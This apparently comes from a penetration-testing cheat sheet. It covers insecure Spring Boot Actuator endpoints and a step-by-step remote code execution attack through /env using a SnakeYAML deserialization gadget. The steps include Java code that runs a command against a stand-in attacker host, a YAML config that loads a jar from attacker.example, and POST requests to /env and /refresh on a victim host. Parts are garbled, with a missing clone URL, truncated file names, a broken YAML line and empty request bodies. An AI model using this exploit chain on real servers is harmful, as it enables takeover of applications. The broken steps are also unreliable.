Skip to content

Insecure Management Interface


Actuator endpoints let you monitor and interact with your application. Spring Boot includes a number of built-in endpoints and lets you add your own. For example, the /health endpoint provides basic application health information.

Some ofthem contains sensitive info such as :

  • /trace - Displays trace information (by default the last 100 HTTP requests with headers).
  • /env - Displays the current environment properties (from Spring’s ConfigurableEnvironment).
  • /heapdump - Builds and returns a heap dump from the JVM used by our application.
  • /dump - Displays a dump of threads (including a stack trace).
  • /logfile - Outputs the contents of the log file.
  • /mappings - Shows all of the MVC controller mappings.

These endpoints are enabled by default in Springboot 1.X. Note: Sensitive endpoints will require a username/password when they are accessed over HTTP.

Since Springboot 2.X only /health and /info are enabled by default.

Remote Code Execution via /env

Spring is able to load external configurations in the YAML format. The YAML config is parsed with the SnakeYAML library, which is susceptible to deserialization attacks. In other words, an attacker can gain remote code execution by loading a malicious config file.


  1. Generate a payload of SnakeYAML deserialization gadget.

  2. Build malicious jar

    git clone
    cd yaml-payload
    # Edit the payload before executing the last commands (see below)
    javac src/artsploit/
    jar -cvf yaml-payload.jar -C src/ .

  3. Edit src/artsploit/

public AwesomeScriptEngineFactory() {
    try {
        Runtime.getRuntime().exec("ping rce.poc.attacker.example"); // COMMAND HERE
    } catch (IOException e) {
  • Create a malicious yaml config (yaml-payload.yml)
!!javax.script.ScriptEngineManager [
  !! [[!! ["http://attacker.example/yaml-payload.jar"]
  1. Host the malicious files on your server.

  2. yaml-payload.jar

  3. yaml-payload.yml

  4. Change to your server.

POST /env HTTP/1.1
Host: victim.example:8090
Content-Type: application/x-www-form-urlencoded
Content-Length: 59
  1. Reload the configuration.
POST /refresh HTTP/1.1
Host: victim.example:8090
Content-Type: application/x-www-form-urlencoded
Content-Length: 0